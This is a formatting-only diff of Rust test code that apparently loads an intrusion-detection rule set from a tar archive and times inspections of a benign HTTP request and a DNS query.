-        let status = std::process::Command::new("tar")
-            .arg("-xJf")
-            .arg(&archive)
-            .arg("-C")
-            .arg(&dir)
-            .status();
+        let status = std::process::Command::new("tar").arg("-xJf").arg(&archive).arg("-C").arg(&dir).status();
         if !status.is_ok_and(|s| s.success()) {
             let _ = std::fs::remove_dir_all(&dir);
-            eprintln!(
-                "SKIPPED: could not extract {} with tar -xJf",
-                archive.display()
-            );
+            eprintln!("SKIPPED: could not extract {} with tar -xJf", archive.display());
             return;
         }
         let rules_dir = dir.join("rules");
@@ -1471,8 +1116,7 @@ mod tests {
             .filter(|p| p.extension().is_some_and(|x| x == "rules"))
             .collect();
         files.sort();
-        let classes =
-            Classifications::load(rules_dir.join("classification.config")).unwrap_or_default();
+        let classes = Classifications::load(rules_dir.join("classification.config")).unwrap_or_default();
         let total: usize = files
             .iter()
             .map(|f| {
@@ -1517,7 +1161,8 @@ mod tests {
         eprintln!("loaded per protocol: {pp:?}");
         // a few inspections through the full rule set
         let headers = b"Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n";
-        let payload = b"GET /index.php?id=1 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";
+        let payload =
+            b"GET /index.php?id=1 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";
         let insp = Inspection {
             app_proto: Some(AppProto::Http),
             http_uri: Some(b"/index.php?id=1"),
@@ -1533,23 +1178,11 @@ mod tests {
         for _ in 0..n {
             hits += d.inspect(&insp).len();
         }
-        eprintln!(
-            "{n} HTTP request inspections: {:.2?} each, {} hits each",
-            t1.elapsed() / n,
-            hits / n as usize
-        );
+        eprintln!("{n} HTTP request inspections: {:.2?} each, {} hits each", t1.elapsed() / n, hits / n as usize);
         let dns = Inspection {
             app_proto: Some(AppProto::Dns),
             dns_query: Some(b"www.example.com"),
-            ..Inspection::new(
-                Transport::Udp,
-                CLIENT,
-                53000,
-                SERVER,
-                53,
-                Direction::ToServer,
-                b"\x12\x34\x01\x00",
-            )
+            ..Inspection::new(Transport::Udp, CLIENT, 53000, SERVER, 53, Direction::ToServer, b"\x12\x34\x01\x00")
         };
         let _ = d.inspect(&dns);
         let _ = std::fs::remove_dir_all(&dir);
